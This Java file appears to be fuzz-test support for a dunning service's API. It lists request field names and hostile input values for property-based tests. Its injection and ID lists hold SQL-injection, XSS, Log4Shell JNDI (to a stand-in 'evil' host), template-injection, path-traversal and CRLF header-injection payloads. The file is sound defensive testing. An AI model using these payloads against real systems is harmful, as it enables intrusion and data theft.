package io.dunning.deploy.infra.hostile;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/** The hostile pieces requests are made of: field names the services read, and values of the wrong kind. */
final class HostileValues {

    /** Names the services' request bodies and query strings use (and some they do not). */
    static final List<String> FIELDS = List.of("amount", "at", "branchId", "caseId", "channel", "date", "dueDate",
            "dueOn", "extendedTo", "filedOn", "occurredAt", "receivedAt", "nextAllowedAt", "letterNumber", "waybill",
            "status", "outcome", "reason", "segment", "measure", "note", "summary", "partyId", "partyKind", "promise",
            "loanId", "month", "page", "size", "from", "to", "replay", "decision", "court", "type", "value",
            "contactPoint", "customerReaction", "hardshipReason", "deliveredAt", "recipientRef", "policyVersion");

    static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE domain_event_entry; --",
            "1 UNION SELECT password FROM users--", "\" OR \"\"=\"", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "${jndi:ldap://evil/x}", "{{7*7}}", "../../../../etc/passwd",
            "%00", "\\u0000", "admin'--", "1; SELECT pg_sleep(0)", "<!--#exec cmd=\"ls\"-->", "javascript:alert(1)");

    /** JSON-escaped control characters, bidi overrides, lone surrogates, non-characters. */
    static final List<String> CONTROL = List.of("\\u0000", "\\u0001\\u0002", "\\u202e\\u202d", "\\ud800", "\\udfff",
            "\\uffff\\ufffe", "\\u0007\\b\\f", "\\r\\n\\t", "\\u2028\\u2029", "\\u200b\\u200d", "\\u00ad");

    /** Not dates or instants, or ones out of any range. */
    static final List<String> BAD_DATES = List.of("\"2024-13-45\"", "\"2024-02-30\"", "\"yesterday\"", "\"\"",
            "\"0000-00-00\"", "\"+999999999-12-31\"", "\"-999999999-01-01\"", "\"2024-01-01T25:61:00Z\"",
            "\"2024-01-01T00:00:00\"", "\"1e10\"", "20240101", "-1", "\"2024/01/01\"", "\"01.02.2024\"",
            "\"2024-01-01T00:00:00+25:00\"", "\"P1D\"", "true", "[2024,1,1]", "\"9999-12-31T23:59:59.999999999Z\"");

    static final List<String> BAD_NUMBERS = List.of("-1", "-0", "0", "1e309", "-1e309", "9223372036854775808",
            "-9223372036854775809", "1e-400", "\"NaN\"", "\"Infinity\"", "\"-Infinity\"",
            "123456789012345678901234567890.5", "0.0000000001", "-99999999999999999999", "1.7976931348623157E308",
            "2147483648", "\"12,50\"", "\"0x1F\"");

    /** Values of the wrong JSON type for nearly every field. */
    static final List<String> WRONG_TYPES = List.of("123", "-5.5", "true", "false", "null", "[]", "{}", "[1,2,3]",
            "{\"a\":{\"b\":[null]}}", "\"str\"", "[\"x\",{}]", "{\"amount\":\"ten\"}", "[[[[[[[[[[]]]]]]]]]]");

    static final List<String> MALFORMED = List.of("{", "}", "{\"a\":}", "{\"a\" 1}", "{'a':1}", "[", "{\"a\":1,}",
            "{\"a\":\"unterminated}", "nul", "tru", "{\"a\":01}", "\u00ff\u00fe\u0000garbage", "{\"a\":1}{\"b\":2}",
            "{\"a\":\"\\x41\"}", "{\"a\":NaN}", "{\"a\":[1,2}", "<xml/>", "a=1&b=2", " ", "{\"\":\"\"}");

    static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml", "multipart/form-data",
            "application/x-www-form-urlencoded", "application/octet-stream", "foo", "application/json; charset=klingon",
            "*/*", "application/problem+json", "text/html; charset=utf-8", "application/json;;;");

    /** What a path id may be instead of an id: all valid URI text, some of it percent-encoded junk. */
    static final List<String> BAD_IDS = List.of("..", "..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e", "%00", "%25",
            "%252e%252e", "%C0%AF", "%ff%fe", "a%20b", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "'%20OR%20'1'='1", "-1", "0", "null", "undefined", "%E2%80%AE", "%0D%0ASet-Cookie:x=1", "~", "$", "%7B%7D",
            "NaN", "9999999999999999999999", "..;", ";x=1", "x;jsessionid=1", "%5C..%5C", "%E0%80%80");

    static final List<String> METHODS = List.of("PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "POST", "GET");

    private HostileValues() {
    }

    static Arbitrary<String> quoted(List<String> raw) {
        return Arbitraries.of(raw).map(value -> "\"" + value.replace("\\u", "\u0001").replace("\\", "\\\\")
                .replace("\"", "\\\"").replace("\u0001", "\\u") + "\"");
    }

    /** A JSON string: hostile text, or long, or of random unicode (escaped where JSON must). */
    static Arbitrary<String> hostileString() {
        return Arbitraries.oneOf(quoted(INJECTIONS), quoted(CONTROL),
                Arbitraries.strings().all().ofMaxLength(40).map(HostileValues::jsonString),
                Arbitraries.strings().alpha().ofMinLength(1_000).ofMaxLength(20_000).map(s -> "\"" + s + "\""));
    }

    static String jsonString(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            if (c < 0x20 || c == '"' || c == '\\' || Character.isSurrogate(c)) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    /** Text for a query parameter, percent-encoded. */
    static Arbitrary<String> queryValue() {
        return Arbitraries.oneOf(Arbitraries.of(INJECTIONS), Arbitraries.of(BAD_DATES), Arbitraries.of(BAD_NUMBERS),
                Arbitraries.strings().all().ofMaxLength(30), Arbitraries.strings().alpha().ofLength(3_000))
                .map(value -> java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8));
    }
}
